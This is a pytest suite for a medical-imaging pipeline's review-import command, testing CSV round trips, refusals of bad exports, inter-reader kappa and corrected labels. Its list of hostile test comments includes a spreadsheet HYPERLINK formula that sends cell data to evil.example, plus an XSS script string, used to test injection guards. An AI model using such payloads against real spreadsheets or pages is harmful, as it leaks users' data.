"""`resdx review import`: a reader's exported verdicts checked against the current model and report, stored per
reader, counted by evaluate (agreement, kappa, corrected reference) and, opted in, taken by ingest as labels.

Real files in tmp_path, no mocks. The "model" of most tests is a weights file of known bytes (its model_id is
their hash) and a model.json naming its classes; the report's case set is a cases.csv as explain writes it.
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from pipeline.config import params_from_dict
from pipeline.core.agreement import cohen_kappa, corrected_reference, pairwise_kappa, reader_agreement
from pipeline.core.review import CSV_COLUMNS, STORED_COLUMNS, Verdict, case_set_id, model_id_of
from pipeline.errors import ReviewError
from pipeline.io.artifacts import save_csv
from pipeline.io.index import write_index
from pipeline.io.reviews import read_review_export, read_reviews, read_reviews_for, write_reader_table
from pipeline.io.tensors import report_case_ids
from pipeline.stages.review import import_review

REPO = Path(__file__).resolve().parents[1]
CASES = ["case-01", "case-02", "case-03", "case-04", "case-05"]
WEIGHTS = b"not really safetensors: the model id is a hash of these bytes"
HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "<script>alert('x')</script>", 'a, b; "quoted", c',
           "line one\nline two\r\nline three", "+1 more", "@SUM(A1:A9)", "\tstarts with a tab", "\rstarts with CR",
           "-2", "  padded  ", "ünïcödé ✓ 日本"]


# ----------------------------------------------------------------------------- builders
def _report(tmp: Path, *, cases=CASES, classes=("no lesion", "lesion"), task="single_label", weights=WEIGHTS):
    """Params of a 'current model' (weights + model.json) and a current report (cases.csv) under `tmp`."""
    (tmp / "models").mkdir(parents=True, exist_ok=True)
    (tmp / "models" / "model.safetensors").write_bytes(weights)
    (tmp / "models" / "model.json").write_text(json.dumps({"spec": {}, "class_names": list(classes), "task": task}))
    save_csv(tmp / "explain" / "cases.csv", ["case_id", "split", "label"], [[c, "test", 0] for c in cases])
    return params_from_dict({
        "train": {"out_dir": str(tmp / "models")}, "explain": {"out_dir": str(tmp / "explain")},
        "ingest": {"out_dir": str(tmp / "ing"), "splits_file": None}, "evaluate": {"out_dir": str(tmp / "rep")},
        "data": {"reviews_dir": str(tmp / "reviews"), "class_names": list(classes)}})


_FORMULA = re.compile(r"^[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$")


def _js_field(s) -> str:
    """report.js csvField: the OWASP apostrophe, then RFC 4180 quoting."""
    s = "" if s is None else str(s)
    if _FORMULA.search(s) and not _NUMBER.search(s):
        s = "'" + s
    return '"' + s.replace('"', '""') + '"' if re.search(r'[",\r\n]', s) else s


def _export(path: Path, verdicts: dict, *, model=None, case_set=None, cases=CASES, header=CSV_COLUMNS,
            bom=False, extra_rows=()) -> Path:
    """The file report.js's Export CSV writes: every case of the report, `verdicts` case -> (review, comment,
    corrected label), then `extra_rows` (raw cell lists); CRLF line ends."""
    model = model_id_of(WEIGHTS) if model is None else model
    case_set = case_set_id(cases) if case_set is None else case_set
    lines = [list(header)]
    for c in cases:
        review, comment, corrected = verdicts.get(c, ("", "", ""))
        lines.append([c, "1", "0.731058", "1", review, comment, corrected, model, case_set])
    lines += [list(r) for r in extra_rows]
    text = "\r\n".join(",".join(_js_field(v) for v in line) for line in lines) + "\r\n"
    path.write_bytes(("\ufeff" if bom else "").encode() + text.encode("utf-8"))
    return path


def _tables(params) -> dict[str, bytes]:
    folder = Path(params.data.reviews_dir)
    return {f.name: f.read_bytes() for f in folder.glob("*")} if folder.exists() else {}


# ----------------------------------------------------------------------------- round trip
def test_export_import_store_and_read_back_byte_for_byte(tmp_path):
    params = _report(tmp_path)
    comments = dict(zip(CASES, ["=HYPERLINK(\"http://x\")", "<script>alert(1)</script>", HOSTILE[2], HOSTILE[3], ""]))
    verdicts = {"case-01": ("agree", comments["case-01"], ""), "case-02": ("disagree", comments["case-02"], "0"),
                "case-03": ("unsure", comments["case-03"], ""), "case-04": ("disagree", comments["case-04"], "1.0")}
    (tmp_path / "reviews").mkdir()
    (tmp_path / "reviews" / "README.md").write_text("not a table\n")
    r = import_review(params, _export(tmp_path / "export.csv", verdicts), "jdoe")
    assert (r["n_rows"], r["n_reviewed"], r["n_agree"], r["n_disagree"], r["n_unsure"], r["n_corrected"]) == \
        (5, 4, 1, 2, 1, 2)
    assert r["replaced"] is False and r["path"] == str(tmp_path / "reviews" / "jdoe.csv")
    assert r["model_id"] == model_id_of(WEIGHTS) and r["case_set"] == case_set_id(CASES)

    stored = (tmp_path / "reviews" / "jdoe.csv").read_text(encoding="utf-8")
    assert stored.splitlines()[0] == ",".join(STORED_COLUMNS)
    assert '"\'=HYPERLINK(""http://x"")"' in stored  # the spreadsheet guard is in the stored file
    got = read_reviews(tmp_path / "reviews")
    assert list(got) == ["jdoe"]  # README.md is no table
    assert [(v.case_id, v.review, v.comment, v.corrected_label) for v in got["jdoe"]] == [
        ("case-01", "agree", comments["case-01"], ""), ("case-02", "disagree", comments["case-02"], "0"),
        ("case-03", "unsure", comments["case-03"], ""), ("case-04", "disagree", comments["case-04"], "1")]
    assert read_reviews_for(tmp_path / "reviews", model_id_of(WEIGHTS), case_set_id(CASES)) == got
    assert read_reviews_for(tmp_path / "reviews", model_id_of(WEIGHTS)) == got  # any case set
    assert read_reviews_for(tmp_path / "reviews", model_id_of(b"another model"), case_set_id(CASES)) == {}
    assert read_reviews_for(tmp_path / "reviews", model_id_of(WEIGHTS), case_set_id(CASES[:2])) == {}
    assert read_reviews(tmp_path / "nowhere") == {} and read_reviews_for(tmp_path / "nowhere", "x") == {}


@pytest.mark.parametrize("comment", HOSTILE)
def test_hostile_comments_survive_export_import_and_storage(tmp_path, comment):
    params = _report(tmp_path)
    import_review(params, _export(tmp_path / "e.csv", {"case-03": ("unsure", comment, "")}), "r1")
    (v,) = read_reviews(tmp_path / "reviews")["r1"]
    assert v.comment == comment and v.comment.encode() == comment.encode()
    if _FORMULA.search(comment) and not _NUMBER.search(comment):  # the stored cell opens as text
        with (tmp_path / "reviews" / "r1.csv").open(newline="", encoding="utf-8") as fh:
            assert next(csv.DictReader(fh))["comment"] == "'" + comment


def test_a_spreadsheet_round_trip_is_accepted(tmp_path):
    """A BOM, padding columns and rows, a capitalised verdict and spaces around ids: what a spreadsheet saves."""
    params = _report(tmp_path)
    path = _export(tmp_path / "e.csv", {"case-02": ("Agree", "ok", " 1 ")}, header=CSV_COLUMNS + ("",), bom=True,
                   extra_rows=[[""] * 10])
    text = path.read_text(encoding="utf-8-sig").replace("\r\n", ",\r\n")  # every row one empty cell longer
    path.write_text("\ufeff" + text, encoding="utf-8", newline="")
    r = import_review(params, path, "r1")
    assert r["n_reviewed"] == 1
    (v,) = read_reviews(tmp_path / "reviews")["r1"]
    assert (v.case_id, v.review, v.corrected_label) == ("case-02", "agree", "1")


def test_read_review_export_names_missing_and_unexpected_columns(tmp_path):
    header = [c for c in CSV_COLUMNS if c != "model_id"] + ["notes"]
    path = tmp_path / "e.csv"
    path.write_text(",".join(header) + "\r\n")
    with pytest.raises(ReviewError) as err:
        read_review_export(path)
    assert err.value.code == "review_header"
    assert "missing column(s) model_id" in err.value.message and "unexpected column(s) 'notes'" in err.value.message


def test_reimport_replaces_the_readers_verdicts_on_this_report_and_keeps_other_reports(tmp_path):
    params = _report(tmp_path)
    write_reader_table(tmp_path / "reviews", "r1", [  # a verdict on another model's report
        {"case_id": "old-9", "review": "disagree", "corrected_label": "1", "model_id": "0" * 16, "case_set": "1" * 16}])
    first = import_review(params, _export(tmp_path / "a.csv", {c: ("agree", "", "") for c in CASES}), "r1")
    assert first["replaced"] is False and first["n_kept"] == 1
    again = import_review(params, _export(tmp_path / "b.csv", {"case-05": ("unsure", "second look", "")}), "r1")
    assert again["replaced"] is True and again["n_replaced"] == 5 and again["n_kept"] == 1
    every = read_reviews(tmp_path / "reviews")["r1"]
    assert [(v.case_id, v.review) for v in every] == [("old-9", "disagree"), ("case-05", "unsure")]
    assert [v.case_id for v in read_reviews_for(tmp_path / "reviews", model_id_of(WEIGHTS))["r1"]] == ["case-05"]


# ----------------------------------------------------------------------------- refusals
def _one(case="case-02", review="disagree", comment="", corrected=""):
    return {case: (review, comment, corrected)}


REFUSALS = {
    "other model": (dict(verdicts=_one(), model="feedfacefeedface"), "review_other_model",
                    ["feedfacefeedface", model_id_of(WEIGHTS), "export them again from the current report"]),
    "no model": (dict(verdicts=_one(), model=""), "review_other_model", ["no model"]),
    "other case set": (dict(verdicts=_one(), case_set=case_set_id(CASES[:3])), "review_other_case_set",
                       [case_set_id(CASES[:3]), case_set_id(CASES)]),
    "mixed models": (dict(verdicts=_one(), extra_rows=[["case-05", "0", "0.1", "0", "", "", "", "0" * 16,
                                                         case_set_id(CASES)]]), "review_mixed_ids", ["model_id"]),
    "unknown case": (dict(verdicts=_one(), extra_rows=[["case-99", "0", "0.1", "0", "agree", "", "",
                                                         model_id_of(WEIGHTS), case_set_id(CASES)]]),
                     "review_unknown_case", ["case-99", "not in the current report"]),
    "duplicate case": (dict(verdicts=_one(), extra_rows=[["case-02", "0", "0.1", "0", "agree", "", "",
                                                           model_id_of(WEIGHTS), case_set_id(CASES)]]),
                       "review_duplicate_case", ["line 7", "case-02"]),
    "bad review": (dict(verdicts=_one(review="maybe")), "review_bad_choice", ["'maybe'", "agree, disagree, unsure"]),
    "corrected label out of range": (dict(verdicts=_one(corrected="2")), "review_bad_label", ["0 = no lesion"]),
    "corrected label not a number": (dict(verdicts=_one(corrected="lesion")), "review_bad_label", ["'lesion'"]),
    "corrected label a vector": (dict(verdicts=_one(corrected="1;0")), "review_bad_label", ["one class"]),
    "comment without verdict": (dict(verdicts=_one(review="", comment="look again")), "review_incomplete",
                                ["no verdict"]),
    "nothing reviewed": (dict(verdicts={}), "review_empty", ["no case has a verdict"]),
    "header": (dict(verdicts=_one(), header=CSV_COLUMNS[:-1] + ("caseset",)), "review_header",
               ["missing column(s) case_set", "'caseset'"]),
}


@pytest.mark.parametrize("name", list(REFUSALS))
def test_refusals_have_their_own_code_and_write_nothing(tmp_path, name):
    params = _report(tmp_path)
    import_review(params, _export(tmp_path / "before.csv", _one("case-01", "agree")), "r1")  # an earlier import
    before = _tables(params)
    kwargs, code, words = REFUSALS[name]
    with pytest.raises(ReviewError) as err:
        import_review(params, _export(tmp_path / "e.csv", **kwargs), "r1")
    assert err.value.code == code, err.value.message
    for w in words:
        assert w in err.value.message, (w, err.value.message)
    assert err.value.hint
    assert _tables(params) == before  # nothing written, the earlier table untouched
    assert not list((tmp_path / "reviews").glob(".tmp-*"))


def test_every_bad_line_is_named_in_one_refusal(tmp_path):
    params = _report(tmp_path)
    bad = {"case-01": ("maybe", "", ""), "case-03": ("agree", "", "7"), "case-04": ("", "note", "")}
    with pytest.raises(ReviewError) as err:
        import_review(params, _export(tmp_path / "e.csv", bad), "r1")
    assert err.value.code == "review_bad_choice" and "3 problem(s)" in err.value.message
    assert all(f"line {n}" in err.value.message for n in (2, 4, 5))
    assert _tables(params) == {}


@pytest.mark.parametrize("reader", ["../x", "a b", "", "-x", ".hidden", "a/b", "x" * 129, "r1\n"])
def test_unsafe_reader_ids_are_refused(tmp_path, reader):
    params = _report(tmp_path)
    with pytest.raises(ReviewError) as err:
        import_review(params, _export(tmp_path / "e.csv", _one()), reader)
    assert err.value.code == "review_bad_reader"
    assert _tables(params) == {} and not (tmp_path / "x.csv").exists()


def test_a_reader_differing_only_in_letter_case_is_refused(tmp_path):
    params = _report(tmp_path)
    import_review(params, _export(tmp_path / "e.csv", _one()), "JDoe")
    with pytest.raises(ReviewError) as err:
        import_review(params, _export(tmp_path / "e.csv", _one()), "jdoe")
    assert err.value.code == "review_bad_reader" and "JDoe" in err.value.hint


def test_multi_label_corrected_labels_are_vectors_of_the_models_length(tmp_path):
    params = _report(tmp_path, classes=("effusion", "nodule"), task="multi_label")
    r = import_review(params, _export(tmp_path / "e.csv", _one(corrected="1;0")), "r1")
    assert r["n_corrected"] == 1 and read_reviews(tmp_path / "reviews")["r1"][0].corrected_label == "1;0"
    for bad in ("1", "1;0;1", "2;0"):
        with pytest.raises(ReviewError) as err:
            import_review(params, _export(tmp_path / "e.csv", _one(corrected=bad)), "r2")
        assert err.value.code == "review_bad_label", bad


def test_without_cases_csv_the_case_set_is_the_one_explain_will_show(tmp_path):
    """Before explain has run, the current case set is `report_case_ids`: explain.splits in turn, index order,
    at most explain.max_cases."""
    params = _report(tmp_path)
    (tmp_path / "explain" / "cases.csv").unlink()
    rows = [("t1", "test"), ("v1", "val"), ("x1", "train"), ("t2", "test"), ("bad", "test"), ("v2", "val")]
    write_index(tmp_path / "ing" / "index.csv", [{"case_id": c, "split": s, "label": "0",
                                                   "status": "rejected" if c == "bad" else "ok"} for c, s in rows])
    p = params.model_copy(update={"explain": params.explain.model_copy(update={"splits": ["val", "test"],
                                                                                "max_cases": 3})})
    assert report_case_ids(p) == ["v1", "v2", "t1"]
    assert report_case_ids(p, only={"t2", "v2"}) == ["v2", "t2"]
    assert report_case_ids(params) == ["t1", "t2"]
    r = import_review(params, _export(tmp_path / "e.csv", {"t2": ("agree", "", "")}, cases=["t1", "t2"]), "r1")
    assert r["case_set"] == case_set_id(["t1", "t2"]) and r["note"] is None
    # a report of some cases only (`resdx explain --case t2`): imported, with a note that evaluate won't count it
    save_csv(tmp_path / "explain" / "cases.csv", ["case_id"], [["t2"]])
    r = import_review(params, _export(tmp_path / "e.csv", {"t2": ("agree", "", "")}, cases=["t2"]), "r1")
    assert r["case_set"] == case_set_id(["t2"]) and "evaluate counts verdicts on the full report only" in r["note"]


def test_files_that_are_not_exports_are_refused_clearly(tmp_path):
    params = _report(tmp_path)
    cases = [(tmp_path / "missing.csv", "review_missing_file"), (tmp_path, "review_bad_file")]
    header = ",".join(CSV_COLUMNS).encode()
    (tmp_path / "latin1.csv").write_bytes(header + b"\r\ncase-01,1,0.5,1,agree,caf\xe9,,x,y\r\n")
    (tmp_path / "short.csv").write_text(",".join(CSV_COLUMNS) + "\r\ncase-01,1,0.5\r\n")
    (tmp_path / "empty.csv").write_text(",".join(CSV_COLUMNS) + "\r\n")
    cases += [(tmp_path / "latin1.csv", "review_bad_file"), (tmp_path / "short.csv", "review_bad_file"),
              (tmp_path / "empty.csv", "review_empty")]
    for path, code in cases:
        with pytest.raises(ReviewError) as err:
            import_review(params, path, "r1")
        assert err.value.code == code, (path, err.value.message)
    assert _tables(params) == {}


# ----------------------------------------------------------------------------- agreement (pure)
def _v(reader, reviews: dict, corrected: dict | None = None):
    return [Verdict(c, reader, r, "", (corrected or {}).get(c, "")) for c, r in reviews.items()]


A = {"c1": "agree", "c2": "agree", "c3": "disagree", "c4": "unsure", "c5": "agree"}
B = {"c1": "agree", "c2": "disagree", "c3": "disagree", "c4": "unsure", "c5": "agree", "c6": "agree"}


def test_reader_agreement_on_a_hand_computed_example():
    decisions = {"c1": "1", "c2": "0", "c3": "1", "c4": "0", "c5": "1", "c6": "0"}
    got = reader_agreement({"a": _v("a", A, {"c2": "1", "c3": "1"}), "b": _v("b", B)}, decisions)
    # a: agree 3, disagree 1, unsure 1 -> agreement 3 / (3 + 1) = 0.75; corrected c2 -> 1 while agreeing with
    # decision 0 (inconsistent), c3 -> 1 while disagreeing with decision 1 (inconsistent)
    assert got["a"] == {"n_reviewed": 5, "n_agree": 3, "n_disagree": 1, "n_unsure": 1, "agreement": 0.75,
                        "n_corrected": 2, "n_inconsistent": 2, "n_outside": 0}
    # b: agree 3 (c1, c5, c6), disagree 2 (c2, c3), unsure 1 -> 3 / (3 + 2) = 0.6
    assert got["b"]["agreement"] == 0.6 and got["b"]["n_reviewed"] == 6 and got["b"]["n_unsure"] == 1
    only = reader_agreement({"b": _v("b", B)}, {"c1": "1"})["b"]
    assert only["n_reviewed"] == 1 and only["n_outside"] == 5
    assert reader_agreement({"u": _v("u", {"c1": "unsure"})})["u"]["agreement"] is None  # 0 / 0


def test_cohens_kappa_between_readers_matches_sklearn_and_a_hand_value():
    from sklearn.metrics import cohen_kappa_score

    # Shared cases c1..c5 (c6 only b): observed agreement 4/5 = 0.8. Marginals a: agree 3, disagree 1, unsure 1;
    # b: agree 2, disagree 2, unsure 1. Chance agreement (3*2 + 1*2 + 1*1) / 25 = 0.36.
    # kappa = (0.8 - 0.36) / (1 - 0.36) = 0.44 / 0.64 = 0.6875
    got = pairwise_kappa({"b": _v("b", B), "a": _v("a", A)})
    assert got == {"a vs b": {"n_shared": 5, "kappa": 0.6875}}
    shared = list(A)
    assert cohen_kappa_score([A[c] for c in shared], [B[c] for c in shared]) == pytest.approx(0.6875)
    assert cohen_kappa(["agree"], ["agree"]) is None  # under 2 shared cases
    assert cohen_kappa(["agree", "agree"], ["agree", "agree"]) is None  # undefined: chance agreement is 1
    assert cohen_kappa(["agree", "disagree"], ["disagree", "agree"]) == -1.0
    assert pairwise_kappa({"a": _v("a", {"c1": "agree"}), "z": _v("z", {"c9": "agree"})})["a vs z"] == \
        {"n_shared": 0, "kappa": None}


def test_corrected_reference_majority_tie_and_latest_verdict_per_reader():
    labels = {"c1": "0", "c2": "0", "c3": "1", "c4": "0", "c5": "1"}
    verdicts = {
        "a": _v("a", {"c1": "disagree", "c2": "disagree", "c3": "agree", "c9": "disagree"},
                {"c1": "1", "c2": "1", "c3": "1", "c9": "1"}),
        "b": _v("b", {"c1": "disagree", "c2": "agree"}, {"c1": "1", "c2": "0"}),
        "c": _v("c", {"c1": "agree", "c4": "disagree", "c5": "disagree"}, {"c4": "0", "c5": "0"})
             + [Verdict("c5", "c", "agree", "", "")],  # a later verdict on c5 without a correction
    }
    ref = corrected_reference(labels, verdicts)
    # c1: a, b say 1 (c gave none) -> 1, changed. c2: a 1 vs b 0 -> tie, keeps 0, a conflict.
    # c3: a says 1 = the original: decided by a, not changed. c4: c says 0 = original. c5: c's latest verdict
    # has no correction -> 1 kept. c9 is not among the cases: ignored.
    assert ref.labels == {"c1": "1", "c2": "0", "c3": "1", "c4": "0", "c5": "1"}
    assert ref.changed == ("c1",) and ref.n_changed == 1
    assert ref.conflicts == ("c2",) and ref.n_conflicts == 1
    assert ref.readers == {"c1": ("a", "b"), "c3": ("a",), "c4": ("c",)}
    three = corrected_reference({"x": "0"}, {r: _v(r, {"x": "disagree"}, {"x": lab})
                                             for r, lab in (("a", "2"), ("b", "1"), ("c", "2"))})
    assert three.labels == {"x": "2"} and three.readers == {"x": ("a", "c")} and not three.conflicts


# ----------------------------------------------------------------------------- ingest (use_review_labels)
def test_ingest_takes_corrected_labels_only_when_opted_in(demo_cohort, tmp_path):
    from helpers import ingest_config, read_index

    from pipeline.io.index import INDEX_COLUMNS
    from pipeline.stages.ingest import run_ingest

    with demo_cohort.open() as fh:
        manifest = list(csv.DictReader(fh))
    a, b = manifest[0], manifest[1]
    flip = {"0": "1", "1": "0"}
    reviews = tmp_path / "reviews"
    write_reader_table(reviews, "r1", [
        {"case_id": a["case_id"], "review": "disagree", "corrected_label": flip[a["label"]], "model_id": "m1"},
        {"case_id": b["case_id"], "review": "disagree", "corrected_label": flip[b["label"]], "model_id": "m1"}])
    write_reader_table(reviews, "r2", [  # another model's report: corrected labels count all the same
        {"case_id": a["case_id"], "review": "disagree", "corrected_label": flip[a["label"]], "model_id": "m2"},
        {"case_id": b["case_id"], "review": "agree", "corrected_label": b["label"], "model_id": "m2"}])  # a tie

    def ingest(use, out):
        params = params_from_dict({"seed": 3, "data": {"manifest": str(demo_cohort), "reviews_dir": str(reviews),
                                                        "use_review_labels": use},
                                   "ingest": {**ingest_config(tmp_path, workers=2, spacing=[10.0, 10.0, 10.0],
                                                              shape=[24, 24, 24]), "out_dir": str(out)}})
        run_ingest(params, progress=False)
        return {r["case_id"]: r for r in read_index(out, INDEX_COLUMNS)}

    plain, taken = ingest(False, tmp_path / "plain"), ingest(True, tmp_path / "taken")
    for m in manifest:
        assert plain[m["case_id"]]["label"] == plain[m["case_id"]]["manifest_label"] == m["label"]
        assert plain[m["case_id"]]["label_source"] == "manifest"
    assert taken[a["case_id"]]["label"] == flip[a["label"]] and taken[a["case_id"]]["manifest_label"] == a["label"]
    assert taken[a["case_id"]]["label_source"] == "review:r1,r2"
    assert taken[b["case_id"]]["label"] == b["label"] and taken[b["case_id"]]["label_source"] == "manifest"  # tie
    others = [c for c in plain if c not in (a["case_id"], b["case_id"])]
    assert all(taken[c]["label"] == plain[c]["label"] and taken[c]["label_source"] == "manifest" for c in others)
    # a correction never moves a case between splits, and the tensors are the same bytes
    assert {c: r["split"] for c, r in plain.items()} == {c: r["split"] for c, r in taken.items()}
    for r in plain.values():
        assert (tmp_path / "plain" / r["tensor"]).read_bytes() == (tmp_path / "taken" / r["tensor"]).read_bytes()

    write_reader_table(reviews, "r3", [{"case_id": others[0], "review": "disagree", "corrected_label": "5",
                                        "model_id": "m1"}])
    with pytest.raises(ReviewError) as err:  # a stored label that is no class of the cohort stops ingest
        ingest(True, tmp_path / "bad")
    assert err.value.code == "review_bad_label"


# ----------------------------------------------------------------------------- CLI
def _resdx(*args, cwd):
    import os

    env = dict(os.environ, COLUMNS="200")  # rich wraps the summary table's cells to the terminal's width
    return subprocess.run([sys.executable, "-m", "pipeline.cli", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=120, env=env)


def test_cli_help_explains_the_import():
    out = _resdx("review", "import", "--help", cwd=REPO)
    assert out.returncode == 0
    text = " ".join(out.stdout.split())
    for words in ("--reader", "current model", "replaces", "dvc repro", "use_review_labels", "reviews_dir"):
        assert words in text, words


def test_cli_import_and_refusal(tmp_path):
    import yaml

    params = _report(tmp_path)
    pfile = tmp_path / "params.yaml"
    pfile.write_text(yaml.safe_dump(params.model_dump(mode="json")))
    ok = _resdx("review", "import", str(_export(tmp_path / "ok.csv", _one())), "--reader", "jdoe", "--params",
                str(pfile), cwd=tmp_path)
    assert ok.returncode == 0, ok.stderr
    assert "dvc repro" in ok.stderr and "re-runs evaluate and explain" in ok.stderr
    assert (tmp_path / "reviews" / "jdoe.csv").exists()
    bad = _resdx("review", "import", str(_export(tmp_path / "old.csv", _one(), model="0123456789abcdef")), "--reader",
                 "jdoe", "--params", str(pfile), cwd=tmp_path)
    assert bad.returncode != 0
    text = " ".join(bad.stderr.split())
    assert "error [review_other_model]" in text and "0123456789abcdef" in text and "what to do:" in text
    assert "Traceback" not in bad.stderr


# ----------------------------------------------------------------------------- evaluate
@pytest.mark.slow
def test_evaluate_reports_the_current_models_verdicts(tiny_ingested, tmp_path):
    """Train a tiny model; import two readers' verdicts on the report evaluate will name (no cases.csv yet);
    evaluate's `review` section counts them, kappa pairs them, and the test metrics against the corrected label
    stand beside the original ones; another model's verdicts are not this model's."""
    import mlflow
    from helpers import train_params

    from pipeline.stages.evaluate import run_evaluate
    from pipeline.stages.train import run_train

    params = train_params(tmp_path, tiny_ingested, data={"reviews_dir": str(tmp_path / "reviews")},
                          explain={"out_dir": str(tmp_path / "explain")})
    run_train(params, progress=False)
    first = run_evaluate(params)
    assert "review" not in first and "review" not in json.loads((tmp_path / "reports/metrics.json").read_text())

    cases = report_case_ids(params)
    with (tmp_path / "reports/predictions.csv").open() as fh:
        pred = {r["case_id"]: r for r in csv.DictReader(fh) if r["split"] == "test"}
    assert len(cases) >= 3 and set(cases) <= set(pred)
    c0, c1, c2 = cases[:3]
    wrong = str(1 - int(pred[c0]["label"]))
    a = {c0: ("disagree", "not what I see", wrong), c1: ("agree", "", ""), c2: ("unsure", "", "")}
    b = {c0: ("disagree", "", wrong), c1: ("agree", "", ""), c2: ("agree", "", "")}
    for reader, verdicts in (("a", a), ("b", b)):
        import_review(params, _export(tmp_path / f"{reader}.csv", verdicts, cases=cases,
                                      model=model_id_of((tmp_path / "models/model.safetensors").read_bytes())), reader)
    write_reader_table(tmp_path / "reviews", "c", [{"case_id": c1, "review": "disagree", "model_id": "f" * 16,
                                                    "case_set": case_set_id(cases)}])

    again = run_evaluate(params)
    rv = again["review"]
    assert rv == json.loads((tmp_path / "reports/metrics.json").read_text())["review"]
    assert rv["case_set"] == case_set_id(cases) and rv["n_readers"] == 2 and set(rv["readers"]) == {"a", "b"}
    assert {k: rv["readers"]["a"][k] for k in ("n_reviewed", "n_agree", "n_disagree", "n_unsure", "agreement",
                                               "n_corrected")} == \
        {"n_reviewed": 3, "n_agree": 1, "n_disagree": 1, "n_unsure": 1, "agreement": 0.5, "n_corrected": 1}
    assert rv["readers"]["b"]["agreement"] == round(2 / 3, 4)
    # a: disagree, agree, unsure; b: disagree, agree, agree. po = 2/3; pe = (1*1 + 1*2 + 1*0) / 9 = 1/3;
    # kappa = (2/3 - 1/3) / (1 - 1/3) = 0.5
    assert rv["kappa"] == {"a vs b": {"n_shared": 3, "kappa": 0.5}}
    assert rv["corrected_reference"] == {"n_cases": 1, "n_changed": 1, "n_conflicts": 0, "readers": ["a", "b"]}
    t = rv["test"]
    assert t["n_changed"] == 1 and t["n_conflicts"] == 0
    assert t["original"]["n"] == t["corrected"]["n"] == first["test"]["n"]
    assert t["original"]["auroc"] == first["test"]["auroc"] and t["original"]["accuracy"] == first["test"]["accuracy"]
    assert t["corrected"]["accuracy"] != t["original"]["accuracy"]  # one test label differs

    run_id = json.loads((tmp_path / "models/mlflow_run.json").read_text())["run_id"]
    logged = mlflow.MlflowClient(tracking_uri=params.mlflow.tracking_uri).get_run(run_id).data.metrics
    assert logged["review_readers.a.agreement"] == 0.5 and logged["review_kappa.a vs b.kappa"] == 0.5
    assert "review_test.corrected.accuracy" in logged and not any("model_id" in k for k in logged)
